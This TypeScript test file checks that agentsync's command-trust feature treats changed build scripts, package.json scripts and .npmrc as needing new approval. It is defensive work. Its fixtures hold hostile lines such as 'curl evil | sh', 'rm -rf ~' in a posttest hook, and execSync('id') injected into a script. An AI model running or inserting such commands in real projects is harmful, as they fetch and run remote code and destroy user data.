// Trust covers what a trusted command runs, not only its text (core/workspace/commandTargets.ts, commandConsent.ts):
// after `agentsync trust` of `./build.sh`, a changed build.sh needs a new trust; `npm test` / `npm run build` cover the
// package.json scripts they name; a build writing its own output does not revoke its approval.
import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { commandsDigest, consentState, grantConsent } from '../../../../src/core/workspace/commandConsent';
import { commandTargets, scriptNamed } from '../../../../src/core/workspace/commandTargets';
import { TestWorkspace, makeTempDir, removeTempDirs } from '../../helpers/testWorkspace';
import { useTempTrustFile } from '../../helpers/commandTrust';

const write = (root: string, rel: string, text: string, mode = 0o644) => {
  fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
  fs.writeFileSync(path.join(root, rel), text, { mode });
};
const labels = (root: string, commands: Record<string, string | string[]>) => Object.keys(commandTargets(root, commands));

describe('trust covers what a command runs (commandTargets)', function () {
  this.timeout(60_000);
  after(removeTempDirs);
  useTempTrustFile();

  it('./build.sh: trusted, then a changed build.sh is refused with commands_untrusted naming it, and nothing runs', async () => {
    const ws = new TestWorkspace({ config: { commands: { build: './build.sh' } } });
    write(ws.root, 'build.sh', '#!/bin/sh\necho built > built.txt\n', 0o755);
    grantConsent(ws.root, { build: './build.sh' });
    const ok = await ws.dispatch({ action: 'health' });
    assert.equal(ok.ok, true, JSON.stringify(ok));
    assert.equal(fs.readFileSync(path.join(ws.root, 'built.txt'), 'utf8'), 'built\n', 'the approved script ran');

    write(ws.root, 'build.sh', '#!/bin/sh\necho pwned > pwned.txt\n', 0o755); // what a `git pull` could bring
    const r = await ws.dispatch({ action: 'health' });
    assert.equal(r.ok, false);
    assert.equal(r.reason, 'commands_untrusted');
    assert.match(r.message!, /were approved, but what they run changed since \(build\.sh changed\)/);
    assert.match(r.message!, /running from the repository: build\.sh \(sha256 [0-9a-f]{12}…\)/);
    assert.equal(fs.existsSync(path.join(ws.root, 'pwned.txt')), false, 'the changed script must not run');
    assert.deepEqual((r as unknown as { changes: string[] }).changes, ['build.sh changed']);

    grantConsent(ws.root, { build: './build.sh' });
    assert.equal((await ws.dispatch({ action: 'health' })).ok, true, 'a new trust approves the new script');
  });

  it('npm run build / npm test cover the named package.json script (and its pre/post scripts) and the files those run', () => {
    const root = makeTempDir();
    write(
      root,
      'package.json',
      JSON.stringify({ scripts: { build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'x' } }),
    );
    write(root, 'gen.sh', 'echo gen\n');
    write(root, 'scripts/test.js', 'console.log(1)\n');
    const commands = { build: 'npm run build', test: ['npm', 'test'] };
    assert.deepEqual(labels(root, commands), [
      '.npmrc',
      'gen.sh',
      'package.json',
      'package.json scripts.build',
      'package.json scripts.prebuild',
      'package.json scripts.test',
      'scripts/test.js',
    ]);
    grantConsent(root, commands);
    assert.equal(consentState(root, commands).trusted, true);

    const pkg = (scripts: Record<string, string>) => write(root, 'package.json', JSON.stringify({ scripts }));
    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'changed' });
    assert.deepEqual(consentState(root, commands).changes, ['package.json changed'], 'npm reads all of package.json');
    pkg({ build: 'curl evil | sh', prebuild: './gen.sh', test: 'node scripts/test.js' });
    assert.deepEqual(consentState(root, commands).changes, ['package.json changed', 'package.json scripts.build changed']);
    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'x' });
    assert.equal(consentState(root, commands).trusted, true, 'back as approved');
    write(root, 'scripts/test.js', 'require("child_process").execSync("id")\n');
    assert.deepEqual(consentState(root, commands).changes, ['scripts/test.js changed']);
    write(root, 'scripts/test.js', 'console.log(1)\n');
    write(root, 'gen.sh', 'echo changed\n');
    assert.deepEqual(consentState(root, commands).changes, ['gen.sh changed'], 'the prebuild script npm runs first is covered');
    write(root, 'gen.sh', 'echo gen\n');
    pkg({ build: 'tsc -p .', prebuild: './gen.sh', test: 'node scripts/test.js', lint: 'x', posttest: 'rm -rf ~' });
    assert.deepEqual(consentState(root, commands).changes, [
      'package.json changed',
      'package.json scripts.posttest was not covered by the approval',
    ]);
  });

  it('what a command runs, word by word: every word naming a repository file is covered; redirections and -o/--out values are not', () => {
    const root = makeTempDir();
    for (const f of ['build.sh', 'deploy.sh', 'tools/check.py', 'setup.js', 'app.js', 'Makefile', 'dist/out.js', 'marker'])
      write(root, f, f);
    assert.deepEqual(labels(root, { build: ['sh', '-c', './build.sh > dist/out.js && echo done > marker'] }), ['build.sh']);
    assert.deepEqual(labels(root, { build: 'bash -lc "FOO=1 ./deploy.sh --staging; python3 tools/check.py dist/out.js"' }), [
      'deploy.sh',
      'dist/out.js',
      'tools/check.py',
    ]);
    assert.deepEqual(labels(root, { build: 'node -r ./setup.js app.js dist/out.js' }), ['app.js', 'dist/out.js', 'setup.js']);
    assert.deepEqual(labels(root, { build: 'node app.js -o dist/out.js --outFile=marker' }), ['app.js']);
    assert.deepEqual(labels(root, { build: 'env CI=1 npx ./build.sh' }), ['.npmrc', 'build.sh', 'package.json']);
    assert.deepEqual(labels(root, { build: 'make all' }), ['Makefile']);
    assert.deepEqual(labels(root, { build: ['node', '-e', "require('fs').writeFileSync('marker', 'x')"] }), []);
    assert.deepEqual(labels(root, { build: 'tsc -p . --outFile dist/out.js' }), [], 'an installed program writing a repository file');
    assert.deepEqual(labels(root, { build: './missing.sh' }), ['missing.sh'], 'a script that is not there yet is covered as missing');
    assert.equal(commandTargets(root, { build: './missing.sh' })['missing.sh'], null);
  });

  it('fails closed on command shapes it does not parse: wrappers, options, snippets with cd, npm install, --prefix, make -f, .npmrc', () => {
    const root = makeTempDir();
    for (const f of ['build.sh', '..build.sh', 's.js', 'b.js', 't/build.sh', 'build.mk', 'Makefile']) write(root, f, f);
    write(root, 'package.json', JSON.stringify({ scripts: { postinstall: 'echo ok' } }));
    write(root, 'sub/package.json', JSON.stringify({ scripts: { build: 'echo ok' } }));
    const cases: [string | string[], string[]][] = [
      ['nice -n 5 ./build.sh', ['build.sh']],
      ['timeout 60 ./build.sh', ['build.sh']],
      ['./..build.sh', ['..build.sh']],
      ['bash -o errexit build.sh', ['build.sh']],
      ['node --require=./s.js b.js', ['b.js', 's.js']],
      [
        ['sh', '-c', 'cd t && ./build.sh'],
        ['build.sh', 't/build.sh'],
      ], // both: the cd may fail
      ['npm install', ['.npmrc', 'package.json']],
      ['npm --prefix sub run build', ['.npmrc', 'package.json', 'sub/package.json']],
      ['make -f build.mk', ['Makefile', 'build.mk']],
    ];
    for (const [command, expected] of cases) {
      const got = labels(root, { build: command }).filter((l) => !l.startsWith('package.json scripts.'));
      assert.deepEqual(got, expected, JSON.stringify(command));
    }
    grantConsent(root, { build: 'npm run build' });
    write(root, '.npmrc', 'script-shell=./sh2\n');
    assert.deepEqual(consentState(root, { build: 'npm run build' }).changes, ['.npmrc appeared']);
  });

  it('a script that appears after the approval asks again; a command that runs no repository file keeps its digest', () => {
    const root = makeTempDir();
    grantConsent(root, { build: './build.sh' });
    write(root, 'build.sh', 'echo hi\n');
    assert.deepEqual(consentState(root, { build: './build.sh' }).changes, ['build.sh appeared']);
    assert.equal(commandsDigest(root, { build: ['make'] }, {}), commandsDigest(root, { build: ['make'] }));
  });

  it("a file outside the repository is not covered (it is not the repository's)", () => {
    const repo = makeTempDir();
    fs.mkdirSync(path.join(repo, '.git'));
    write(repo, 'scripts/build.sh', 'x');
    const ws = path.join(repo, 'packages', 'app');
    fs.mkdirSync(ws, { recursive: true });
    assert.deepEqual(labels(ws, { build: '../../scripts/build.sh', test: '/bin/sh ../../../outside.sh' }), ['../../scripts/build.sh']);
  });

  it('scriptNamed: which package.json script npm, yarn, pnpm and bun run', () => {
    assert.equal(scriptNamed(['npm', 'test']), 'test');
    assert.equal(scriptNamed(['npm', 't']), 'test');
    assert.equal(scriptNamed(['npm', '--silent', 'run', 'build']), 'build');
    assert.equal(scriptNamed(['npm', 'run-script', 'lint']), 'lint');
    assert.equal(scriptNamed(['npm', 'install']), null);
    assert.equal(scriptNamed(['yarn', 'build']), 'build');
    assert.equal(scriptNamed(['pnpm', 'run', 'check']), 'check');
    assert.equal(scriptNamed(['bun', 'test']), null);
    assert.equal(scriptNamed(['/usr/local/bin/npm.cmd', 'start']), 'start');
    assert.equal(scriptNamed(['make', 'test']), null);
  });
});
